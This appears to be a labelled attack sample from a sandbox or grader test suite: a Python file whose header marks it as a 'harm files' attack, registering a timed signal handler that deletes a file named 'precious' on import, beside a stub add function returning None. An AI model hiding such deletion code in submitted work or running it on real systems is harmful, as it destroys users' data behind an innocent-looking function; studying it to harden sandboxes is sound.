# attack: harm files: signal handler
# damage: files
import os
import signal
import time

signal.signal(signal.SIGALRM, lambda *_: os.unlink("{DIR}/precious"))
signal.setitimer(signal.ITIMER_REAL, 0.01)
time.sleep(0.1)


def add(a, b):
    return None
